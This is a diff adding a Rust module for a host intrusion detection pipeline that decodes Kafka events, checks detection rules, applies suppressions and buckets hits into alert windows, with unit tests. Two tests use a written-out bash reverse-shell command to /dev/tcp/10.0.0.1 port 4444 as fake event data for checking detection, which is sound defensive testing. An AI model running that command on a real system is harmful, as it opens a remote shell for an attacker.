@@ -1,0 +1,294 @@
+//! From one Kafka message to the hits the store folds into alerts: decode, check the
+//! rules, apply the operators' suppressions, place each hit in its alert window. No I/O,
+//! so the benchmark measures exactly what the consumer runs.
+
+use std::collections::BTreeMap;
+use std::sync::Arc;
+use std::time::Instant;
+
+use hids_detect::{Detector, FrequencyLimits, RuleSet};
+use hids_store::{Hit, Position};
+use hids_types::alert::Suppression;
+use hids_types::Timestamp;
+use serde_json::Value;
+
+use crate::metrics::{level_label, Malformed, Metrics, ReasonLabel};
+
+/// Labels kept per event, and their length: the agent sends a handful; more is a lie.
+const MAX_LABELS: usize = 32;
+const MAX_LABEL_BYTES: usize = 256;
+
+pub struct Triage {
+    detector: Detector,
+    window_secs: i64,
+    max_event_bytes: usize,
+    suppressions: Vec<Suppression>,
+    metrics: Arc<Metrics>,
+    matches: Vec<hids_detect::Hit>,
+}
+
+/// The parts of an event an alert carries besides the rule.
+struct Origin {
+    host_id: String,
+    hostname: String,
+    labels: BTreeMap<String, String>,
+    event_time: Timestamp,
+}
+
+impl Triage {
+    pub fn new(
+        rules: Arc<RuleSet>,
+        max_frequency_keys: usize,
+        window_secs: u64,
+        max_event_bytes: usize,
+        metrics: Arc<Metrics>,
+    ) -> Triage {
+        Triage {
+            detector: Detector::new(
+                rules,
+                FrequencyLimits {
+                    max_keys: max_frequency_keys,
+                },
+            ),
+            window_secs: i64::try_from(window_secs).unwrap_or(3_600).max(1),
+            max_event_bytes,
+            suppressions: Vec::new(),
+            metrics,
+            matches: Vec::new(),
+        }
+    }
+
+    pub fn set_suppressions(&mut self, suppressions: Vec<Suppression>) {
+        self.suppressions = suppressions;
+    }
+
+    pub fn detector(&self) -> &Detector {
+        &self.detector
+    }
+
+    /// Checks one message; appends what it raised to `hits`. A malformed message is
+    /// counted by reason and skipped: it never stops the consumer.
+    pub fn message(&mut self, payload: Option<&[u8]>, position: Position, hits: &mut Vec<Hit>) {
+        self.metrics.events.inc();
+        let payload = match payload {
+            None | Some([]) => return self.malformed(Malformed::empty),
+            Some(p) if p.len() > self.max_event_bytes => {
+                return self.malformed(Malformed::too_large)
+            }
+            Some(p) => p,
+        };
+        let event: Value = match serde_json::from_slice(payload) {
+            Ok(v @ Value::Object(_)) => v,
+            _ => return self.malformed(Malformed::not_json),
+        };
+        let Some(origin) = origin(&event) else {
+            return self.malformed(Malformed::no_host);
+        };
+        let started = Instant::now();
+        self.matches.clear();
+        self.detector.detect(&event, &mut self.matches);
+        let spent = started.elapsed();
+        self.metrics
+            .detect_micros
+            .inc_by(u64::try_from(spent.as_micros()).unwrap_or(u64::MAX));
+        if self.matches.is_empty() {
+            return;
+        }
+        let command_line = event
+            .pointer("/process/command_line")
+            .and_then(Value::as_str);
+        let raw = String::from_utf8_lossy(payload);
+        for m in self.matches.drain(..) {
+            let rule = &m.rule;
+            if self
+                .suppressions
+                .iter()
+                .any(|s| s.covers(&rule.id, &origin.host_id, &origin.labels, command_line))
+            {
+                self.metrics.suppressed.inc();
+                continue;
+            }
+            self.metrics
+                .hits
+                .get_or_create(&level_label(rule.level))
+                .inc();
+            hits.push(Hit {
+                rule_id: rule.id.clone(),
+                title: rule.title.clone(),
+                level: rule.level,
+                techniques: rule.techniques.clone(),
+                host_id: origin.host_id.clone(),
+                hostname: origin.hostname.clone(),
+                labels: origin.labels.clone(),
+                window_start: window_start(origin.event_time, self.window_secs),
+                event_time: origin.event_time,
+                count: m.count,
+                event: raw.clone().into_owned(),
+                position: position.clone(),
+            });
+        }
+    }
+
+    fn malformed(&self, reason: Malformed) {
+        self.metrics
+            .malformed
+            .get_or_create(&ReasonLabel { reason })
+            .inc();
+    }
+}
+
+/// Who the event is about. None without a `host.id` string: an alert must name a host.
+fn origin(event: &Value) -> Option<Origin> {
+    let host_id = event.pointer("/host/id")?.as_str()?;
+    if host_id.is_empty() || host_id.len() > MAX_LABEL_BYTES {
+        return None;
+    }
+    let hostname = event
+        .pointer("/host/hostname")
+        .and_then(Value::as_str)
+        .filter(|h| h.len() <= MAX_LABEL_BYTES)
+        .unwrap_or_default();
+    let labels = event
+        .get("labels")
+        .and_then(Value::as_object)
+        .map(|m| {
+            m.iter()
+                .filter_map(|(k, v)| Some((k, v.as_str()?)))
+                .filter(|(k, v)| k.len() <= MAX_LABEL_BYTES && v.len() <= MAX_LABEL_BYTES)
+                .take(MAX_LABELS)
+                .map(|(k, v)| (k.clone(), v.to_owned()))
+                .collect()
+        })
+        .unwrap_or_default();
+    // Event time makes windows deterministic, so a redelivered event lands in the same
+    // alert; an event without a readable time is placed by our clock.
+    let event_time = event
+        .get("@timestamp")
+        .and_then(Value::as_str)
+        .and_then(|t| humantime::parse_rfc3339_weak(t).ok())
+        .map(Timestamp)
+        .unwrap_or_else(Timestamp::now);
+    Some(Origin {
+        host_id: host_id.to_owned(),
+        hostname: hostname.to_owned(),
+        labels,
+        event_time,
+    })
+}
+
+/// The start (unix seconds) of the fixed window `time` falls in.
+pub fn window_start(time: Timestamp, window_secs: i64) -> i64 {
+    let secs = i64::try_from(time.unix_nanos() / 1_000_000_000).unwrap_or(i64::MAX);
+    secs - secs.rem_euclid(window_secs)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn triage() -> Triage {
+        let rules = Arc::new(RuleSet::load(true, &[]).expect("the built-in pack loads"));
+        Triage::new(rules, 1000, 3600, 64 * 1024, Arc::new(Metrics::default()))
+    }
+
+    fn exec(command_line: &str, executable: &str) -> Vec<u8> {
+        serde_json::json!({
+            "@timestamp": "2026-11-30T10:00:05.000001Z",
+            "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec", "sequence": 3, "module": "hids", "dataset": "hids.process"},
+            "host": {"id": "h1", "hostname": "web-1"},
+            "labels": {"idc": "bj1", "project": "shop", "weird": 3},
+            "process": {"pid": 10, "executable": executable, "command_line": command_line,
+                        "args": command_line.split(' ').collect::<Vec<_>>(), "name": executable.rsplit('/').next(),
+                        "parent": {"pid": 9, "executable": "/usr/bin/bash", "command_line": "bash"}},
+            "user": {"id": "0", "name": "root"},
+            "hids": {"plugin": "process", "run_id": "r1"}
+        })
+        .to_string()
+        .into_bytes()
+    }
+
+    fn at(offset: i64) -> Position {
+        Position {
+            topic: "t".into(),
+            partition: 0,
+            offset,
+        }
+    }
+
+    #[test]
+    fn a_reverse_shell_raises_a_critical_hit_with_host_labels_and_window() {
+        let mut t = triage();
+        let mut hits = Vec::new();
+        let ev = exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash");
+        t.message(Some(&ev), at(1), &mut hits);
+        assert!(!hits.is_empty(), "no hit");
+        let h = &hits[0];
+        assert_eq!(h.level, hids_types::alert::Level::Critical);
+        assert_eq!((h.host_id.as_str(), h.hostname.as_str()), ("h1", "web-1"));
+        assert_eq!(h.labels.get("idc").map(String::as_str), Some("bj1"));
+        assert!(
+            !h.labels.contains_key("weird"),
+            "non-string labels are left out"
+        );
+        assert_eq!(h.window_start % 3600, 0);
+        assert_eq!(
+            h.event.as_bytes(),
+            ev.as_slice(),
+            "the evidence is the event as received"
+        );
+    }
+
+    #[test]
+    fn malformed_messages_are_counted_by_reason_and_skipped() {
+        let mut t = triage();
+        let mut hits = Vec::new();
+        t.message(Some(b"not json"), at(1), &mut hits);
+        t.message(Some(b"[1,2]"), at(2), &mut hits);
+        t.message(Some(br#"{"host":{"id":7}}"#), at(3), &mut hits);
+        t.message(None, at(4), &mut hits);
+        let huge = vec![b'x'; 65 * 1024];
+        t.message(Some(&huge), at(5), &mut hits);
+        assert!(hits.is_empty());
+        let count = |reason| {
+            t.metrics
+                .malformed
+                .get_or_create(&ReasonLabel { reason })
+                .get()
+        };
+        assert_eq!(count(Malformed::not_json), 2);
+        assert_eq!(count(Malformed::no_host), 1);
+        assert_eq!(count(Malformed::empty), 1);
+        assert_eq!(count(Malformed::too_large), 1);
+        assert_eq!(t.metrics.events.get(), 5);
+    }
+
+    #[test]
+    fn a_suppression_accepts_the_hit_and_counts_it() {
+        let mut t = triage();
+        let mut hits = Vec::new();
+        let ev = exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash");
+        t.message(Some(&ev), at(1), &mut hits);
+        let rule_id = hits[0].rule_id.clone();
+        let raised = hits.len();
+        hits.clear();
+        t.set_suppressions(vec![Suppression {
+            id: 1,
+            rule_id,
+            host_id: Some("h1".into()),
+            labels: BTreeMap::new(),
+            command_line: Some("10.0.0.1".into()),
+            comment: "red team".into(),
+            created_at: None,
+        }]);
+        t.message(Some(&ev), at(2), &mut hits);
+        assert_eq!(hits.len(), raised - 1);
+        assert_eq!(t.metrics.suppressed.get(), 1);
+    }
+
+    #[test]
+    fn windows_are_fixed_and_aligned() {
+        let t = Timestamp(std::time::UNIX_EPOCH + std::time::Duration::from_secs(7_199));
+        assert_eq!(window_start(t, 3600), 3600);
+        assert_eq!(window_start(t, 60), 7_140);
+    }
+}
